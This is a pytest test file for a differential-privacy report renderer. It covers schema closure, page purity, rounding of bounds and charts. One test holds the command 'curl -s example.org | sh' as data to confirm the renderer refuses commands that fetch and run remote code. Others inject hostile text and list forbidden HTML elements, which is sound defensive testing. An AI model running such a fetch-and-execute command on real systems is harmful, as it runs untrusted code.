"""The report: is its schema closed, is its page pure, complete, harmless, and rounded to the safe side?"""

from __future__ import annotations

import copy
import itertools
import json
import math
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from decimal import Context, Decimal, localcontext
from fractions import Fraction
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from tests.release.report_samples import (
    HOSTILE,
    dry_run,
    filled,
    free_texts,
    hidden_texts,
    refusal,
    sample,
    smallest,
    variants,
    with_everything,
)
from tests.release.table_samples import table

import statpriv as sp
from statpriv.errors import ArgumentError, MissingExtraError
from statpriv.releasing import charts, page_facts, page_text
from statpriv.releasing import report as reports
from statpriv.releasing.report import render, validate

VARIANTS = variants()
SCHEMA_FILE = Path(reports.__file__).with_name("report.schema.json")

# Keys that a report need not have: the digest of its page, and what only some points, parts and earlier queries have.
OPTIONAL = {
    "html_sha256",
    "signer",
    "exact_counts",
    *("probability", "cells", "attribute", "gate", "rounded_to", "suppressed_below"),
    "where",
    *("tables", "delta", "table", "query", "impossible", "by", "ladder", "recode", "minima", "nested"),
    *("conditions", "each", "probabilities", "source", "p", "columns", "withheld_at_most"),
    *("units", "largest_unit", "unit_source", "protects", "same_rows", "people"),
}
SEPARATE = {"dt", "dd", "td", "th", "p", "li", "small", "text", "title", "desc"}


@pytest.fixture
def report() -> dict[str, Any]:
    return sample()


@pytest.fixture
def small(report) -> dict[str, Any]:
    """The sample with as few points and queries as can be, for tests that visit every place of it."""
    return smallest(report)


class Page(HTMLParser):
    """What a browser would build: elements with the names of their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.style = ""
        self.comments = 0
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.attributes += [(name, value or "") for name, value in attrs]
        self._open.append(tag)
        if tag in SEPARATE:
            self.words.append(" ")

    def handle_endtag(self, tag):
        while self._open and self._open.pop() != tag:
            pass

    def handle_comment(self, data):
        self.comments += 1

    def handle_data(self, data):
        if "style" in self._open:
            self.style += data
        else:
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.words).split())

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.elements)


def objects(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield value
    for child in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from objects(child)


def string_leaves(value: Any) -> Iterator[tuple[Any, Any]]:
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in pairs:
        if isinstance(child, str):
            yield value, key
        yield from string_leaves(child)


def number_shown(text: str) -> Fraction:
    """Read 1,234 and 0.0123 and 1.23 × 10⁻⁵ and 10⁻⁵."""
    powers = str.maketrans("⁻⁰¹²³⁴⁵⁶⁷⁸⁹", "-0123456789")
    digits, power = re.fullmatch(r"([\d.,]*?)(?: ?×? ?10([⁻⁰¹²³⁴⁵⁶⁷⁸⁹]+))?", text).groups()
    exponent = int(power.translate(powers)) if power else 0
    return Fraction(digits.replace(",", "") or "1") * Fraction(10) ** exponent


# --- the schema


def test_the_schema_is_sound_and_every_object_in_it_is_closed_and_complete():
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    described = [part for part in objects(schema) if part.get("type") == "object" and "properties" in part]
    assert len(described) > 10
    cells = schema["properties"]["tables"]["items"]["properties"]["cells"]["items"]  # closed by another barrier
    for part in described:
        assert part["additionalProperties"] is False or part is cells
        assert set(part["required"]) <= part["properties"].keys() <= set(part["required"]) | OPTIONAL


def test_the_sample_and_its_variants_are_valid(report):
    for variant in (dry_run(report), refusal(report), with_everything(report)):
        validate(variant)


@pytest.mark.parametrize("name", VARIANTS)
def test_every_kind_of_report_is_valid(name):
    validate(VARIANTS[name])


def test_a_key_that_the_schema_does_not_name_is_refused_in_every_object(small):
    places = sum(1 for _ in objects(small))
    for place in range(places):
        leaking = copy.deepcopy(small)
        list(objects(leaking))[place]["leaked_column"] = "canary-cell"
        with pytest.raises(ArgumentError, match="no key may be there which the schema does not name") as refused:
            validate(leaking)
        assert "canary" not in str(refused.value)
        assert "leaked" not in str(refused.value)


def test_a_key_or_category_that_is_not_declared_is_refused_in_every_cell_of_a_table(report):
    """The schema cannot say which keys a cell may have."""
    full = with_everything(report)
    cells = [(k, j) for k, table in enumerate(full["tables"]) for j in (0, -1) if table["cells"]]
    assert len(cells) > 5
    for k, j in cells:
        for leak in ({"leaked_column": "canary-cell"}, {"age": "canary-cell"}):
            leaking = copy.deepcopy(full)
            leaking["tables"][k]["cells"][j].update(leak)
            with pytest.raises(ArgumentError, match=r"^report: \$\.tables\.cells breaks the rule") as refused:
                validate(leaking)
            assert "canary" not in str(refused.value)
            assert "leaked" not in str(refused.value)


def test_a_missing_key_is_refused_in_every_object(small):
    for place, holder in enumerate(list(objects(small))):
        for key in holder.keys() - OPTIONAL:
            lacking = copy.deepcopy(small)
            del list(objects(lacking))[place][key]
            with pytest.raises(ArgumentError, match=r"^report: \$"):
                validate(lacking)


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf, Decimal("0.1"), b"x", "\ud800"])
def test_what_json_cannot_hold_is_refused(report, value):
    report["comparison"]["noise_loose"] = value
    with pytest.raises(ArgumentError, match='infinity is written as the string "inf"'):
        validate(report)


def test_infinity_is_the_string_inf_and_only_where_it_may_be(report):
    report["comparison"]["noise_loose"] = report["comparison"]["count_noise_loose"] = "inf"
    assert "infinite" in Page(render(report)).text
    report["guarantee"]["delta"]["upper"] = "inf"
    with pytest.raises(ArgumentError, match=r'^report: \$\.guarantee\.delta\.upper breaks the rule type: "number"$'):
        validate(report)


def drop_an_answer(report):
    report["answers"].pop()


def rename_an_answer(report):
    report["answers"][0]["query"] += "?"


def count_too_much(report):
    report["answers"][0]["count"] = report["answers"][0]["size"] + 1


def point_nowhere(report):
    report["curves"]["probability"][0]["property"] = 99


def forget_an_error(report):
    report["comparison"]["rmse_released"].pop()


def claim_too_much(report):
    report["guarantee"]["target_delta_exact"] = "1/1000000000"


def turn_a_range(report):
    report["queries"][0]["probability"] = {"lower": "0.6", "upper": "2/5"}


def count_below_the_minimum(report):
    report["tables"] = [table(counts=lambda k: 9 + k)]


def count_nothing_though_released(report):
    report["tables"] = [table(published=None)]


def ask_nothing(report):
    report["queries"] = report["answers"] = report["comparison"]["rmse_released"] = []
    report["curves"]["probability"] = []


def leave_the_unit(report):
    report["queries"][0]["probability"]["upper"] = "1e9"


def turn_an_enclosure(report):
    report["degradation"][0]["delta"] = {"lower": 0.02, "upper": 0.01}


def turn_an_interval(report):
    report["answers"][0]["interval"] = [0.6, 0.5]


def tell_two_epsilons(report):
    report["guarantee"]["epsilon"] *= 1.001


def answer_without_release(report):
    report["release"] = None


def count_though_withheld(report):
    report["answers"][0]["withheld"] = True


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (drop_an_answer, "one answer for each query"),
        (rename_an_answer, "one answer for each query"),
        (count_too_much, "a count above the size of its part"),
        (point_nowhere, "a property that no query has"),
        (forget_an_error, "one number for each answer"),
        (claim_too_much, r"delta\.upper is above the target"),
        (turn_a_range, "not in order within"),
        (leave_the_unit, "not in order within"),
        (turn_an_enclosure, "not in order within"),
        (turn_an_interval, "not in order within"),
        (tell_two_epsilons, "the doubles nearest to guarantee"),
        (answer_without_release, r"\$\.release"),
        (count_below_the_minimum, r"\$\.tables\.cells\.count is below tables\.minimum"),
        (count_nothing_though_released, r"\$\.tables\.published is null exactly if nothing was released"),
        (ask_nothing, r"\$\.queries is empty, and there are no tables"),
        (count_though_withheld, r"\$\.answers\[0\]\.(count|proportion|interval)"),
    ],
)
def test_a_report_that_contradicts_itself_is_refused(report, spoil, message):
    spoil(report)
    with pytest.raises(ArgumentError, match=message):
        render(report)


def test_a_refused_or_dry_run_holds_no_answer(report):
    for key, value in (("dry_run", True), ("guarantee", report["guarantee"] | {"holds": False})):
        with pytest.raises(ArgumentError, match=r"\$\.(answers|release)"):
            validate(report | {key: value})


@pytest.mark.parametrize(
    "commands",
    [
        {"command": "curl -s example.org | sh"},
        {"proof": ["statpriv verify report.json --certificates proofs"]},
        {"proof": ["python claim.py", "python -I -m statpriv.checker proofs/claim-1.json"]},
    ],
)
def test_a_page_asks_its_reader_to_run_no_command_but_those_that_check_it(small, commands):
    small["verify"].update(commands)
    with pytest.raises(ArgumentError, match=r"\$\.verify"):
        render(small)


@pytest.mark.parametrize("module", ["jsonschema", "jinja2"])
def test_a_missing_library_names_the_extra(report, monkeypatch, module):
    for prepared in (reports._page, reports._schema):  # once in a process, perhaps by another test
        prepared.cache_clear()
    monkeypatch.setitem(sys.modules, module, None)
    for read_once in (reports._schema, reports._page):
        monkeypatch.setattr(reports, read_once.__name__, read_once.__wrapped__)
    with pytest.raises(MissingExtraError, match=rf"{module}: pip install 'statpriv\[release\]'"):
        render(report)


# --- purity


def test_rendering_changes_nothing_and_depends_on_nothing_but_the_report(report, tmp_path):
    before = copy.deepcopy(report)
    page = render(report)
    assert report == before
    assert render(report | {"html_sha256": "0" * 64}) == page
    with localcontext(Context(prec=2)):
        assert render(dict(reversed(list(report.items())))) == page
    script = (
        "import json, sys; from statpriv.releasing.report import render; "
        "sys.stdout.buffer.write(render(json.loads(sys.stdin.buffer.read())).encode())"
    )
    for seed, locale in (("1", "C"), ("2", "C.UTF-8")):
        package = str(Path(reports.__file__).parents[2])
        environment = os.environ | {
            "PYTHONHASHSEED": seed,
            "LC_ALL": locale,
            "TZ": "Asia/Tokyo",
            "PYTHONPATH": package,
        }
        elsewhere = subprocess.run(
            [sys.executable, "-c", script],
            input=json.dumps(report).encode(),
            capture_output=True,
            check=True,
            env=environment,
            cwd=tmp_path,
        )
        assert elsewhere.stdout == page.encode()


# --- harmlessness


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_text_in_every_free_place_adds_nothing_but_text(small, payload):
    quiet = Page(render(filled(small, lambda number: f"quiet {number};")))
    hostile_html = render(filled(small, lambda number: f"{payload} {number};"))
    hostile = Page(hostile_html)
    assert hostile.elements == quiet.elements
    assert hostile.comments == 0
    assert hostile.style == quiet.style
    spelled = payload
    for character in "\u202e\u2066\x1b":
        spelled = spelled.replace(character, f"[U+{ord(character):04X}]")
        assert character not in hostile_html
    assert without_files(hostile.text) == without_files(quiet.text).replace("quiet", spelled)


def without_files(text):
    """The text of a page without the names of files, in which little is left of the names of tables."""
    left, files = re.subn(r"\b[12]-[a-z0-9-]*(\.sdmx)?\.csv\b", "FILE", text)
    assert files == 4
    return left


def test_every_text_that_is_not_free_refuses_a_hostile_one(small):
    full = with_everything(small)
    free = {(id(container), key) for container, key in (*free_texts(full), *hidden_texts(full))}
    # Categories of a withheld table are free: nothing else tells what they were.
    free |= {(id(container), key) for container, key in string_leaves(full["tables"])}
    bound = [place for place in string_leaves(full) if (id(place[0]), place[1]) not in free]
    assert len(bound) > 10
    for container, key in bound:
        kept, container[key] = container[key], HOSTILE[0]
        with pytest.raises(ArgumentError):
            validate(full)
        container[key] = kept


def test_every_free_text_is_shown(report):
    full = filled(report, lambda number: f"text-{number};")
    text = Page(render(full)).text
    assert [container[key] for container, key in free_texts(full) if container[key] not in text] == []


@pytest.mark.parametrize("variant", [lambda r: r, dry_run, refusal, with_everything])
def test_the_page_runs_nothing_and_loads_nothing(report, variant):
    html = render(variant(report))
    page = Page(html)
    tags = {tag for tag, _ in page.elements}
    assert not tags & {
        "script",
        "iframe",
        "object",
        "embed",
        "link",
        "img",
        "image",
        "use",
        "form",
        "base",
    }
    names = {name for name, _ in page.attributes}
    assert not [name for name in names if name.startswith("on") or name in {"src", "xlink:href", "style"}]
    targets = {"#" + value for name, value in page.attributes if name == "id"}
    assert {value for name, value in page.attributes if name == "href"} <= targets
    assert "url(" not in page.style
    assert "@import" not in page.style
    assert "http" not in html.replace("http-equiv", "")
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert ("content", policy) in page.attributes
    assert html.index("Content-Security-Policy") < html.index("<style>")


@pytest.mark.parametrize("variant", [lambda r: r, dry_run, refusal, with_everything])
def test_the_page_is_accessible(report, variant):
    page = Page(render(variant(report)))
    levels = [int(tag[1]) for tag, _ in page.elements if tag in {"h1", "h2", "h3", "h4"}]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(deeper - level <= 1 for level, deeper in itertools.pairwise(levels))
    identifiers = [value for name, value in page.attributes if name == "id"]
    assert len(identifiers) == len(set(identifiers))
    references = [one for name, value in page.attributes if name == "aria-labelledby" for one in value.split()]
    assert references
    assert set(references) <= set(identifiers)
    pictures = [names for tag, names in page.elements if tag == "svg" and "role" in names]
    assert pictures
    assert all("aria-labelledby" in names for names in pictures)
    headers = [names for tag, names in page.elements if tag == "th"]
    assert headers
    assert all("scope" in names for names in headers)
    assert ("lang", "en") in page.attributes


# --- what the page says


def test_every_number_that_a_reviewer_needs_is_on_the_page(report):
    report["guarantee"]["partition_secret"] = {"lower": 0.0123125, "upper": 0.0123126}
    report["guarantee"]["partition_known"] = {"lower": 0.0234125, "upper": 0.0234126}
    text = Page(render(report)).text
    guarantee, release = report["guarantee"], report["release"]
    needed = [release["id"], release["ledger"], report["plan"]["sha256"], report["verify"]["command"]]
    needed += [f"Release {release['number']}", f"{release['rows_spent']:,} of {report['data']['rows']:,}"]
    enclosures = [guarantee["delta"], guarantee["partition_secret"], guarantee["partition_known"]]
    enclosures += [query["delta"] for query in report["queries"]]
    needed += [f"[{e['lower']!r}, {e['upper']!r}]" for e in enclosures]
    needed += [
        guarantee["theorem"],
        guarantee["source"],
        *guarantee["assumptions"],
        *guarantee["not_protected"],
    ]
    for query, answer in zip(report["queries"], report["answers"], strict=True):
        needed += [
            query["where"],
            query["source"],
            query["probability"]["lower"],
            query["probability"]["upper"],
        ]
        needed += [f" {answer['count']:,} ", f" {answer['size'] - answer['count']:,} "]
    needed += [f"{row['known_rows']:,}" for row in report["degradation"]]
    assert [missing for missing in needed if " ".join(missing.split()) not in text] == []


def test_the_plan_may_be_silent_and_the_page_says_so(report):
    report["plan"].update(prior="not stated", written_before_access="not stated")
    text = Page(render(report)).text
    assert "Not stated. The guarantee covers what this ledger knows" in text
    assert "access to the values not stated" in text
    report["plan"]["prior"] = "none"
    assert "The plan states that there are none." in Page(render(report)).text


def test_the_page_names_the_most_known_rows_that_the_target_bears(report):
    target, row = report["guarantee"]["target_delta"], report["degradation"][0]
    report["degradation"] = [
        row | {"known_rows": known, "delta": {"lower": 0.0, "upper": delta}}
        for known, delta in ((0, target / 2), (7, target * 0.999), (30, min(1.0, target * 1.001)))
    ]
    assert "that were computed, 7 is the largest at which δ still meets the target" in Page(render(report)).text
    report["degradation"] = report["degradation"][2:]
    assert "still meets the target" not in Page(render(report)).text


def test_every_query_of_a_property_stands_over_its_figure(report):
    planned = dry_run(report)
    first = planned["queries"][0]
    for name in ("twin", "Twin", "twin"):
        planned["queries"].append(first | {"name": name})
        planned["comparison"]["rmse_released"].append(0.01)
    assert f"{first['name']}, twin, Twin declared" in Page(render(planned)).text


def test_a_dry_run_says_that_nothing_was_released(report):
    text = Page(render(dry_run(report))).text
    assert "Dry run: nothing was released" in text
    assert "What would be released" in text
    assert "What was released" not in text
    assert "no cells to check" in text
    assert report["release"]["id"] not in text


def test_a_refusal_says_so_first_and_never_calls_the_target_reached(report):
    refused = refusal(report)
    text = Page(render(refused)).text
    assert "Refused: the guarantee does not reach its target" in text
    assert text.index("Refused:") < text.index("What could be certified")
    assert "No predicate was evaluated, no count was made and no row was spent." in text
    assert "not reached" in text
    assert "reached:" not in text
    assert "What was released" not in text


def test_an_answer_that_contradicts_its_range_withdraws_the_guarantee(report):
    assert "does not apply" not in Page(render(report)).text.split("What is not protected")[0]
    report["answers"][0]["contradicts_range"] = True
    text = Page(render(report)).text
    assert text.index("The certified δ does not apply") < text.index("If the declared ranges were right")
    assert "1 count contradicts its declared range" in text


def test_a_withheld_histogram_does_not_say_that_every_cell_is_outside_its_gate():
    report = copy.deepcopy(VARIANTS["histogram"])
    for answer in report["answers"]:
        if answer["cell"] is not None:
            answer.update(count=None, proportion=None, rmse=None, interval=None, withheld=True)
    text = Page(render(report)).text
    assert "3 answers are withheld. Some cell of a histogram fell outside its declared range" in text
    assert "A count fell outside" not in text


def test_a_withheld_answer_shows_no_count(report):
    answer = report["answers"][0]
    answer.update(count=None, proportion=None, interval=None, withheld=True)
    text = Page(render(report)).text
    assert "1 answer is withheld" in text
    assert ">None<" not in render(report)


def test_warnings_stand_above_the_guarantee(report):
    report["warnings"] = ["Rows are known by their position."]
    text = Page(render(report)).text
    assert text.index("Rows are known by their position.") < text.index("δ, certified")


def test_small_cells_are_counted_on_both_sides(report):
    first, second = report["answers"][:2]
    first["count"], second["count"] = 2, second["size"] - 4
    text = Page(render(report)).text
    assert "The smallest published cell holds 2 rows" in text
    assert "Cells below 3: 1, below 5: 2, below 10: 2." in text


def test_counts_are_rounded_to_the_nearest_multiple_of_five(report):
    answer = report["answers"][0]
    rounded = [page_facts._cell(answer | {"count": count})["rounded"] for count in (0, 2, 3, 7, 8, 12, 13)]
    assert rounded == [0, 0, 5, 5, 10, 10, 15]


def test_a_later_release_tells_the_delta_of_everything_and_of_itself():
    report = VARIANTS["later release"]
    text = Page(render(report)).text
    assert "in the answers of all 3 releases, its chance is at most 1.106 times" in text
    assert "δ, certified ≤ 0.0276 proved bound, rounded up, for all 3 releases; this one alone ≤ 0.000731" in text
    assert "2 releases from this table, 500 rows spent: in the guarantee." in text
    assert "944 rows from the start, 156 rows since release 3 of this table." in text
    for past in report["history"]:
        assert f"{past['number']} {past['release_id']}" in text
    assert '"age" < 30; "age" < 60 on 200' in text
    assert "this release 1 query, above 236 1,100 0.185 ≤ 0.0199 ≤ 0.00369" in text
    assert "everything released, for the worst rows ≤ 0.0276" in text
    assert "statpriv compose report.json computes every δ, the weights and the sum again" in text
    assert "Everything released so far" not in Page(render(sample())).text


def test_the_share_of_a_past_release_is_rounded_up():
    report = copy.deepcopy(VARIANTS["later release"])
    past = report["history"][0]
    past["weight"], past["delta"] = 1 / 3, {"lower": 0.03, "upper": 0.03}
    shown = page_text._up(page_facts.page_facts(report)["shares"][0])
    assert number_shown(shown) >= Fraction(past["weight"]) * Fraction(past["delta"]["upper"])


def test_known_rows_of_one_release_do_not_speak_for_all_of_them():
    assert "The target still holds with" in Page(render(sample())).text
    assert "The target still holds with" not in Page(render(VARIANTS["later release"])).text


def test_edited_content_is_announced_above_the_guarantee():
    text = Page(render(VARIANTS["later release"])).text
    assert text.index("Values have changed since an earlier release") < text.index("δ, certified")
    assert "Values have changed" not in Page(render(sample())).text


def test_processed_answers_say_what_was_done_and_show_no_count_that_was_not_published():
    text = Page(render(VARIANTS["processed answers"])).text
    assert "1 answer is withheld" in text
    assert "1 answer is suppressed" in text
    assert "Strong Republicans below 40" in text
    assert "Clinton voters: published from 72 to 175, withheld otherwise." in text
    assert "The dashed curve is what it would be if exact counts were published" in text
    assert "College degree or more: to base 5, ties upwards." in text
    assert "Withheld: 1. Suppressed: 1. Counts are rounded where the plan says so; no noise." in text


def test_a_rounded_count_may_exceed_its_part_by_rounding_only(report):
    query, answer = report["queries"][0], report["answers"][0]
    query["publication"] = {"gate": None, "suppressed_below": None, "rounded_to": 5}
    query["size"] = answer["size"] = 238
    answer.update(count=240, proportion=240 / 238)
    assert "240" in Page(render(report)).text
    answer["count"] = 245
    with pytest.raises(ArgumentError, match="a count above the size of its part"):
        validate(report)


def test_a_histogram_is_one_figure_with_a_bar_a_cell_and_an_answer_a_cell():
    report = copy.deepcopy(VARIANTS["histogram"])
    page = Page(render(report))
    assert "Shares of the cells of Age" in page.text
    for cell, share in (("under 30", "19.9%"), ("30 to 59", "54.2%"), ("none of these", "25.8%")):
        assert f"Age: {cell}: {share}" in page.text
    assert (
        "Age: none of these rows in no other cell" in page.text
        or "Age: none of theserows in no other cell" in page.text
    )
    (strip,) = charts.histograms(report)
    assert strip.ticks[0].label == "0%"
    scale = place(strip.ticks[-1].position) / float(strip.ticks[-1].label.removesuffix("%"))
    for bar, answer in zip(strip.answers, report["answers"], strict=False):
        assert place(bar.dot) == pytest.approx(100 * answer["proportion"] * scale, abs=0.01)
    report["answers"][1]["cell"] = "another"
    with pytest.raises(ArgumentError, match="for each cell of a histogram"):
        validate(report)


def test_groups_show_their_sizes_and_ranges_and_the_columns_that_are_taken_as_known():
    text = Page(render(VARIANTS["groups"])).text
    assert "f: 0.42 to 0.55; m: 0.4 to 0.65" in text
    assert "f: 120 m: 116" in text
    assert "known rows, population 0, f: 480, m: 464" in text
    assert "drawn within each group of sex, which everybody is taken to know" in text
    assert "one row one person (column person, checked)" in text


def test_leaks_and_blocks_are_tables(report):
    text = Page(render(report)).text
    assert "labels and values of other rows 472 ≤ 0.0675" in text
    assert "If 2 rows were one person’s: δ ≤ 0.0913." in text
    report["leaks"], report["block"] = [], []
    text = Page(render(report)).text
    assert "leaked" not in text
    assert "were one person" not in text


def test_releases_that_do_not_match_the_history_are_refused(report):
    report["guarantee"]["releases"] = 2
    with pytest.raises(ArgumentError, match="must count the releases"):
        validate(report)
    later = VARIANTS["later release"]
    with pytest.raises(ArgumentError, match="term is there exactly if there are earlier releases"):
        validate(later | {"guarantee": later["guarantee"] | {"term": None}})


def test_many_answers_are_shortened_in_the_review_and_whole_in_the_details(report):
    planned = dry_run(report)
    planned["queries"] = [planned["queries"][0] | {"name": f"query number {k}"} for k in range(40)]
    planned["comparison"]["rmse_released"] = [0.01] * 40
    planned["curves"]["probability"] = planned["curves"]["probability"][:1]
    text = Page(render(planned)).text
    assert "40 counts to be made on the part of each query, the first 36 of them here" in text
    review, details = text.split("For the decision")
    assert "query number 35" in review
    assert "query number 36" not in review
    assert "query number 39" in details


def test_estimated_totals_are_the_whole_numbers_of_the_interval(report):
    text = Page(render(report)).text
    for row in page_facts.page_facts(report)["rows"]:
        rows, (low, high), total = report["data"]["rows"], row["answer"]["interval"], row["total"]
        assert (
            Fraction(total["least"] - 1, rows)
            < Fraction(low)
            <= Fraction(total["least"], rows) * (1 + Fraction(1, 2**50))
        )
        assert (
            Fraction(total["most"], rows) * (1 - Fraction(1, 2**50))
            <= Fraction(high)
            < Fraction(total["most"] + 1, rows)
        )
        assert total["near"] == round(row["answer"]["proportion"] * rows)
        assert f"{total['near']:,} ({total['least']:,} to {total['most']:,})" in text


def test_the_page_says_for_whom_noise_would_be_the_better_choice(report):
    def said(**changed):
        report["comparison"] |= changed
        return Page(render(report)).text.split("Why this and not noise")[1]

    assert "Noise would err less here" in said(
        rmse_released=[0.03] * len(report["comparison"]["rmse_released"]), noise_tight=0.01
    )
    assert "This release errs less" in said(noise_tight=0.05)
    assert "This release errs less" in said(noise_tight="inf")
    exact = said(rmse_released=[0.0] * len(report["comparison"]["rmse_released"]), noise_tight=0.05)
    assert "The counts are exact" in exact
    assert "a reader who knows every other row" in exact


def test_the_words_of_the_page_are_explained_on_it(report):
    text = Page(render(report)).text.split("Words on this page")[1]
    for word in (
        "row",
        "part",
        "ε, δ",
        "known rows",
        "declared range",
        "gate",
        "error (rmse)",
        "95% interval",
        "ledger",
    ):
        assert f"{word} " in text


# --- rounding and meaning


def test_a_reader_becomes_surer_by_no_less_than_the_best_guess_gains(report):
    curve = sp.privacy_curve(sp.PropertyQuery("0.3"), sp.Population(20))
    epsilons = [0.5 * k for k in range(16)]
    report["curves"]["epsilon"] = [
        {"epsilon": ends, "partition_secret": {"upper": curve.delta(ends).upper}} for ends in epsilons
    ]
    gains = page_facts._gains(report)
    assert [sure for sure, _ in gains] == [0.5, 0.75, 0.9, 0.99]
    for sure, gain in gains:
        best = Fraction(curve.posterior(str(1 - Fraction(str(sure)))).upper) - Fraction(str(sure))
        assert best <= Fraction(gain) + Fraction(1, 2**50)
    assert gains[0][1] == page_facts._UPWARDS.multiply(Decimal(curve.delta(0).upper), Decimal("0.5"))


def test_without_a_point_of_the_curve_nothing_is_said_of_a_gain(report):
    report["curves"]["epsilon"] = report["curves"]["epsilon"][5:]
    assert page_facts._gains(report)[0] == (0.5, Decimal("0.5"))


@given(st.floats(min_value=0, max_value=1), st.integers(1, 6))
def test_a_bound_is_shown_at_least_as_large_as_it_is_and_close(value, digits):
    shown = number_shown(page_text._up(value, digits))
    assert shown >= Fraction(value)
    assert shown <= Fraction(value) * (1 + Fraction(10) ** (1 - digits))


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (0.0, "0"),
        (1.0, "1"),
        (0.0074512, "0.00746"),
        (0.02, "0.0201"),
        (0.9999, "1.00"),
        (0.5, "0.5"),
        (473.2, "474"),
        (20190.5, "20,200"),
        (1.2345e-9, "1.24 × 10⁻⁹"),
        (5e-324, "4.95 × 10⁻³²⁴"),
    ],
)
def test_rounding_upwards_by_example(value, shown):
    assert page_text._up(value) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("1/10", "0.1"),
        ("1/3", "1/3"),
        ("2", "2"),
        ("100", "100"),
        ("0.40", "0.4"),
        ("1e-6", "0.000001"),
        ("0", "0"),
    ],
)
def test_exact_numbers_are_decimals_where_they_end(text, shown):
    assert page_text._exact(text) == shown


def test_an_interval_is_rounded_outwards(report):
    report["answers"][0]["interval"] = [0.48291, 0.53301]
    assert "48.2% to 53.4%" in Page(render(report)).text


@pytest.mark.parametrize("epsilon", ["0", "1/10", "1", "3"])
def test_what_is_promised_to_one_person_is_true_of_a_binomial_count(report, epsilon):
    n, factor = 30, math.exp(Fraction(epsilon))
    law = [math.comb(n, k) / 2**n for k in range(n + 1)]
    with_property, without = [0.0, *law], [*law, 0.0]
    delta = sum(max(0.0, a - factor * b) for a, b in zip(with_property, without, strict=True))
    report["guarantee"].update(epsilon_exact=epsilon, delta={"lower": 0.0, "upper": delta})
    meaning = page_facts._meaning(report)
    distance = sum(max(0.0, a - b) for a, b in zip(with_property, without, strict=True))
    assert float(meaning["guess"]) >= 0.5 + distance / 2 - 1e-12
    if epsilon == "0":
        assert float(meaning["guess"]) == pytest.approx(0.5 + distance / 2)
    budget, power = 0.05, 0.0
    for a, b in sorted(zip(with_property, without, strict=True), key=lambda ab: -ab[0] / (ab[1] or 1e-300)):
        taken = 1.0 if b <= budget else budget / b
        budget, power = budget - taken * b, power + taken * a
    assert float(meaning["factor"]) == pytest.approx(factor)
    assert power <= float(meaning["detection"]) + 1e-12
    assert power >= 0.05


def test_a_useless_epsilon_still_makes_a_page(report):
    report["guarantee"].update(epsilon=1e308, epsilon_exact="1e308")
    assert "at most ∞ times the chance" in Page(render(report)).text


# --- figures


def place(position: str) -> float:
    return float(position.removesuffix("%"))


def test_answers_lie_where_the_axis_says(report):
    strip = charts.answer_strip(report)
    labels = [float(tick.label.removesuffix("%")) for tick in strip.ticks]
    assert labels == sorted(labels)
    scale = 100 / (labels[-1] - labels[0])
    for row, answer, query in zip(strip.answers, report["answers"], report["queries"], strict=True):
        assert place(row.dot) == pytest.approx((100 * answer["proportion"] - labels[0]) * scale, abs=0.01)
        lower = float(Fraction(query["probability"]["lower"]))
        upper = float(Fraction(query["probability"]["upper"]))
        assert place(row.declared.start) == pytest.approx((100 * lower - labels[0]) * scale, abs=0.01)
        assert place(row.declared.width) == pytest.approx(100 * (upper - lower) * scale, abs=0.01)
        assert 0 <= place(row.interval.start) <= place(row.dot)
        assert place(row.dot) <= place(row.interval.start) + place(row.interval.width) + 0.01 <= 100.01


def test_delta_is_drawn_at_its_upper_end_on_a_logarithmic_axis(report):
    points = report["curves"]["epsilon"]
    for point in points:
        point["partition_secret"]["lower"] = 0.0
    chart = charts.delta_against_epsilon(report)
    first, last = chart.y_ticks[0], chart.y_ticks[-1]
    low, high = math.log10(number_shown(first.label)), math.log10(number_shown(last.label))
    rise = (place(last.position) - place(first.position)) / (high - low)
    assert rise < 0

    def height(value: float) -> float:
        return place(first.position) + (math.log10(value) - low) * rise

    drawn = next(line.path for line in chart.lines if line.style == "secret").removeprefix("M").split(" L")
    assert len(drawn) == len(points)
    for pair, point in zip(drawn, points, strict=True):
        assert float(pair.split()[1]) / 10 == pytest.approx(height(point["partition_secret"]["upper"]), abs=0.02)
    assert place(chart.target) == pytest.approx(height(report["guarantee"]["target_delta"]), abs=0.02)


def test_the_shaded_range_of_a_property_is_the_hull_of_its_declarations(report):
    twin = copy.deepcopy(report["queries"][0]) | {"probability": {"lower": "0.01", "upper": "9/10"}}
    report["queries"].append(twin)
    curve = next(c for c in report["curves"]["probability"] if c["property"] == twin["property"])
    band = charts.delta_against_probability(report, curve).band
    assert (band.start, band.width) == ("1.00%", "89.00%")


def test_the_axis_of_known_rows_reaches_the_last_of_them(report):
    chart = charts.delta_against_known_rows(report)
    assert float(chart.x_ticks[-1].label.replace(",", "")) >= report["degradation"][-1]["known_rows"]
    assert chart.here is not None


def test_values_far_below_the_target_do_not_stretch_the_axis():
    axis = charts.LogAxis.around([1.0, 1e-300, 0.0], 1e-2)
    assert (axis.lowest, axis.highest) == (-8, 0)
    assert axis.share(1e-300) < 0
    assert axis.share(0.0) < 0
    assert [tick.label for tick in axis.ticks()] == ["10⁻⁸", "10⁻⁶", "10⁻⁴", "0.01", "1"]


@given(st.lists(st.floats(0, 1e6), min_size=1, max_size=5))
def test_a_linear_axis_holds_its_values_and_ends_on_its_ticks(values):
    axis = charts.LinearAxis.around([0.0, *values])
    assert all(-1e-9 <= axis.share(value) <= 1 + 1e-9 for value in values)
    ticks = axis.ticks()
